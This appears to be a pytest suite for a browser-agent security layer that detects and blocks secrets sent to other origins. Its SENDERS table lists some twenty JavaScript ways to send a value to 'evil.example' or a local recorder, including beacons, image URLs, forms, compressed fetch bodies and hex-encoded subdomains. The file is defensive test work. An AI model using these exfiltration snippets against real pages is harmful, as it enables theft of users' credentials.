"""Detection of secrets in outgoing requests, on requests that Chromium really sent."""

from __future__ import annotations

import asyncio
import base64
import json
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from urllib.parse import quote

import pytest

from envs.browser.chromium import Chromium
from envs.core.actions import Wait
from envs.security.allowlist import Origins
from envs.security.allowlist_proxy import AllowlistProxy
from envs.security.outgoing_requests import Outgoing
from envs.security.secret_requests import LeakCheck, OutgoingRequest, leaks
from envs.security.secrets import NO_SECRETS, SecretVault
from tests.envs.browser.browsing import QUICK, visit
from tests.envs.security.spellings import PACKED, SPELLINGS

CANARY = "Kestrel7-Quartz"
HOME = "https://shop.example"
EVIL = "https://evil.example"


def vault(value: str = CANARY, *scope: str) -> SecretVault:
    return SecretVault({"PW": (value, Origins.parse(scope or [HOME]))})


@pytest.mark.parametrize("name", [*SPELLINGS, *PACKED])
def test_a_body_in_any_spelling_is_found(name: str) -> None:
    body = PACKED[name](CANARY) if name in PACKED else b"a=1&b=" + SPELLINGS[name](CANARY).encode()
    result = leaks(vault(), OutgoingRequest("POST", f"{EVIL}/in", (), body))
    assert [(leak.name, leak.origin, leak.part) for leak in result] == [("PW", EVIL, "body")]
    assert leaks(vault(), OutgoingRequest("POST", f"{HOME}/in", (), body)) == (), "control: its own origin"
    assert leaks(vault("Heron9-Basalt"), OutgoingRequest("POST", EVIL, (), body)) == (), "control: another value"


BASIC = base64.b64encode(f"me:{CANARY}".encode()).decode()


@pytest.mark.parametrize(
    ("url", "headers", "part"),
    [
        (f"{EVIL}/?q={CANARY}", {}, "address"),
        (f"{EVIL}/a/{quote(CANARY[::-1])}/b.png", {}, "address"),
        (f"https://{CANARY.lower()}.evil.example/", {}, "address"),
        (f"https://{CANARY.encode().hex()}.evil.example/", {}, "address"),
        (f"https://{base64.b32encode(CANARY.encode()).decode().lower().rstrip('=')}.evil.example/", {}, "address"),
        (f"https://{CANARY.lower().replace('-', '.')}.evil.example/", {}, "address"),
        (f"wss://evil.example/{CANARY}", {}, "address"),
        (f"{EVIL}/", {"Referer": f"{HOME}/?pw={CANARY}"}, "headers"),
        (f"{EVIL}/", {"Cookie": f"a=b; session={CANARY.encode().hex()}"}, "headers"),
        (f"{EVIL}/", {"Authorization": f"Basic {BASIC}"}, "headers"),
        (f"{EVIL}/", {f"X-{CANARY}": "1"}, "headers"),
        (f"http://shop.example/?q={CANARY}", {}, "address"),
        (f"{HOME}:8443/?q={CANARY}", {}, "address"),
        (f"https://shop.example@evil.example/?q={CANARY}", {}, "address"),
        (f"data:text/plain,{CANARY}", {}, "address"),
    ],
)
def test_addresses_and_headers_are_searched(url: str, headers: dict[str, str], part: str) -> None:
    request = OutgoingRequest("GET", url, tuple((name.encode(), value.encode()) for name, value in headers.items()))
    result = leaks(vault(), request)
    assert [(leak.name, leak.part) for leak in result] == [("PW", part)]
    assert CANARY.lower() not in (result[0].message + result[0].origin).lower()
    assert "PW" in result[0].message and HOME in result[0].message
    assert leaks(NO_SECRETS, request) == ()


BEYOND_ASCII = "Käuz7-Qüarz"


@pytest.mark.parametrize(
    "value",
    [
        BEYOND_ASCII.encode(),
        BEYOND_ASCII.encode("latin-1"),
        b"\xff" + BEYOND_ASCII.encode() + b"\xe9",
        BEYOND_ASCII.encode().replace(b"-", b"%2D") + b" \xe9",
        BEYOND_ASCII.encode("latin-1").replace(b"-", b"%2D") + " é".encode(),
        base64.b64encode(BEYOND_ASCII.encode()) + b" \xe9",
    ],
)
@pytest.mark.parametrize("name", ["cookie", "accept"])
async def test_a_value_beyond_ascii_passed_in_a_header(name: str, value: bytes) -> None:
    """A browser writes headers of `fetch` as Latin-1 and cookies as UTF-8."""
    sent = Outgoing("GET", f"{EVIL}/", ((name.encode(), b"a=" + value), (b"x-other", b"\xe9")))
    assert "the headers would carry secret PW" in await LeakCheck(vault(BEYOND_ASCII)).check(sent)
    assert await LeakCheck(vault("Küken7-Qüarz")).check(sent) == "", "control: another value"


def test_a_method_can_carry_a_value() -> None:
    assert [leak.part for leak in leaks(vault(), OutgoingRequest("KESTREL7QUARTZ", EVIL))] == ["method"]


def test_each_secret_is_judged_by_its_own_scope() -> None:
    two = SecretVault({"A": (CANARY, Origins.parse([HOME])), "B": ("Heron9-Basalt", Origins.parse([EVIL]))})
    body = f"{CANARY} Heron9-Basalt".encode()
    assert [leak.name for leak in leaks(two, OutgoingRequest("POST", EVIL, (), body))] == ["A"]
    assert [leak.name for leak in leaks(two, OutgoingRequest("POST", HOME, (), body))] == ["B"]
    assert [leak.name for leak in leaks(two, OutgoingRequest("POST", "https://third.example", (), body))] == ["A", "B"]


def test_a_request_does_not_show_what_it_holds() -> None:
    request = OutgoingRequest("POST", f"{EVIL}/?{CANARY}", ((b"a", CANARY.encode()),), CANARY.encode())
    assert repr(request) == f"OutgoingRequest(POST {EVIL})"


@dataclass
class Recorder:
    """An HTTP server on loopback that records complete requests."""

    requests: list[OutgoingRequest] = field(default_factory=list[OutgoingRequest])
    arrived: Event = field(default_factory=Event)

    def serve(self) -> ThreadingHTTPServer:
        kept, arrived = self.requests, self.arrived

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                url = f"http://{self.headers['Host']}{self.path}"
                fields = tuple((name.encode(), value.encode("latin-1")) for name, value in self.headers.items())
                kept.append(OutgoingRequest(self.command, url, fields, body))
                arrived.set()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.end_headers()
                self.wfile.write(b"<p>page</p>")

            do_POST = do_GET  # noqa: N815 - the name is the standard library's
            do_OPTIONS = do_GET  # noqa: N815

            def log_message(self, format: str, *args: object) -> None:
                """Keeps the test output quiet."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return server


FORM = """f = Object.assign(document.createElement('form'), {method: M, enctype: E, action: u, target: 't'});
  i = Object.assign(document.createElement('textarea'), {name: 'p', value: 'x ' + v}); f.append(i);
  document.body.append(f, Object.assign(document.createElement('iframe'), {name: 't'})); f.submit()"""
POST = "await fetch(u, {method: 'POST', mode: 'no-cors', body: BODY})"
PACKED_BODY = "await new Response(new Blob([v]).stream().pipeThrough(new CompressionStream(HOW))).arrayBuffer()"
ADD = "document.body.append(Object.assign(document.createElement(TAG), {ATTRIBUTES}))"
SENDERS = {
    "form": FORM.replace("M,", "'post',").replace("E,", "'',"),
    "multipart form": FORM.replace("M,", "'post',").replace("E,", "'multipart/form-data',"),
    "plain form": FORM.replace("M,", "'post',").replace("E,", "'text/plain',"),
    "query of a form": FORM.replace("M,", "'get',").replace("E,", "'',"),
    "fetch": POST.replace("BODY", "JSON.stringify({v})"),
    "fetch of a blob": POST.replace("BODY", "new Blob([new TextEncoder().encode(v)])"),
    "fetch of UTF-16": POST.replace("BODY", "Uint16Array.from(v, c => c.charCodeAt(0))"),
    "fetch of gzip": POST.replace("BODY", PACKED_BODY.replace("HOW", "'gzip'")),
    "fetch of deflate": POST.replace("BODY", PACKED_BODY.replace("HOW", "'deflate-raw'")),
    "beacon": "navigator.sendBeacon(u, v)",
    "XMLHttpRequest": "x = new XMLHttpRequest; x.open('POST', u); x.send(btoa('a' + v))",
    "image": "new Image().src = u + '?' + encodeURIComponent([...v].reverse().join(''))",
    "image, hex": "new Image().src = u + '/' + [...v].map(c => c.charCodeAt(0).toString(16)).join('') + '.png'",
    "style sheet": ADD.replace("TAG", "'link'").replace("ATTRIBUTES", "rel: 'stylesheet', href: u + '?' + btoa(v)"),
    "frame": ADD.replace("TAG", "'iframe'").replace("ATTRIBUTES", "src: u + '?' + escape([...v].join(' '))"),
    "referrer": "history.replaceState(0, 0, `/?${v}`); await fetch(u, {mode: 'no-cors', referrerPolicy: 'unsafe-url'})",
    "event source": "new EventSource(u + '?' + [...v].map(c => c.charCodeAt(0)).join(','))",
    "base64 twice": "navigator.sendBeacon(u, btoa(btoa(v)))",
    "two values": "navigator.sendBeacon(u, new URLSearchParams([['a', v.slice(0, 8)], ['', v.slice(8)]]))",
    "navigation": "location.href = u + '?next=' + encodeURIComponent(encodeURIComponent(v + '&'))",
}
"""Ways for a page to send `v` to the address `u`."""
ACCEPT = "await fetch(u, {mode: 'no-cors', headers: {Accept: TEXT}})"
IN_HEADERS = {
    "header, Latin-1": ACCEPT.replace("TEXT", "v"),
    "header, UTF-8": ACCEPT.replace("TEXT", "unescape(encodeURIComponent(v))"),
    "cookie": "document.cookie = 'p=' + v; await fetch(u, {mode: 'no-cors', credentials: 'include'})",
}
"""Ways that send letters beyond ASCII as bytes."""


@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="session")
async def test_requests_that_chromium_sends_are_recognised(guarded: Chromium, tmp_path: Path) -> None:
    """Each way is detected with the declared value, and not with another value of the same length. The session has no
    secrets, so no check stops the requests."""
    home, evil = Recorder(), Recorder()
    servers = home.serve(), evil.serve()
    home_url, evil_url = (f"http://127.0.0.1:{server.server_address[1]}" for server in servers)
    held = vault(CANARY, home_url)
    missed: list[str] = []
    async with AllowlistProxy(Origins.parse([home_url, evil_url])) as proxy:
        session = await guarded.session(QUICK, proxy, tmp_path)
        for name, sender in SENDERS.items():
            for value in (CANARY, "Heron98-Basalts"):
                await visit(session, home_url)
                evil.requests.clear()
                evil.arrived.clear()
                script = f"(async()=>{{const v={json.dumps(value)},u='{evil_url}/in';let f,i,x;{sender}}})()"
                await session.page.evaluate(f"setTimeout({json.dumps(script)})")
                await asyncio.to_thread(evil.arrived.wait, 20)
                result = [leak for request in evil.requests for leak in leaks(held, request)]
                if bool(result) != (value == CANARY):
                    missed.append(f"{name}: {value} {evil.requests and evil.requests[-1].url}")
        await session.close()
    for server in servers:
        server.shutdown()
        server.server_close()
    assert missed == []
    assert all(leaks(held, request) == () for request in home.requests), "its own origin receives it"


@pytest.mark.browser
@pytest.mark.asyncio(loop_scope="session")
@pytest.mark.parametrize(
    ("secret", "other", "senders"),
    [(CANARY, "Heron98-Basalts", SENDERS), (BEYOND_ASCII, "Mäuse-Bäsalt", IN_HEADERS)],
    ids=["in every way", "beyond ASCII"],
)
async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(
    tmp_path: Path, secret: str, other: str, senders: dict[str, str]
) -> None:
    """A page sends a value that was typed at its own origin in every way; the control with another value arrives."""
    home, evil = Recorder(), Recorder()
    servers = home.serve(), evil.serve()
    home_url, evil_url = (f"http://127.0.0.1:{server.server_address[1]}" for server in servers)
    wrong: list[str] = []
    allowed = Origins.parse([home_url, evil_url])
    async with Chromium.launch(own_tls=True) as chromium, AllowlistProxy(allowed) as proxy:
        session = await chromium.session(QUICK, proxy, tmp_path, vault(secret, home_url))
        for name, sender in senders.items():
            await visit(session, home_url)
            evil.requests.clear()
            for value in (secret, other):
                evil.arrived.clear()
                script = f"(async()=>{{const v={json.dumps(value)},u='{evil_url}/in';let f,i,x;{sender}}})()"
                await session.page.evaluate(f"setTimeout({json.dumps(script)})")
                if value != secret:
                    await asyncio.to_thread(evil.arrived.wait, 20)
                    continue
                messages = ""
                for _ in range(100):  # until the request has come to the proxy
                    messages += (await session.execute(Wait())).message
                    if "a request was stopped: the " in messages:
                        break
                if "a request was stopped: the " not in messages or secret in messages:
                    wrong.append(f"{name}: {messages!r}")
            leaked = [request.url for request in evil.requests if leaks(vault(secret, home_url), request)]
            if leaked or not evil.requests:
                wrong.append(f"{name}: leaked {leaked}, arrived {len(evil.requests)}")
        await session.close()
    for server in servers:
        server.shutdown()
        server.server_close()
    assert wrong == []
